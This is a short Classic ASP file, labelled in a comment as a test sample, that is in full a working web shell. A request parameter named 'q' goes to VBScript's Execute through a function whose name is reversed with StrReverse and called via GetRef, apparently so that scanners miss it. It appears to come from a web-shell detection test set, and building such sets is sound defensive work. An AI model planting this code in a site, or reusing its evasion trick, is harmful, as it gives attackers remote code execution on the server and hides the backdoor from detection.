<%
' test sample: the procedure's name reversed and kept in a variable before GetRef
Function Ww(q)
    Execute q
End Function
nm = StrReverse("wW")
Set fp = GetRef(nm)
Call fp(Request("q"))
%>
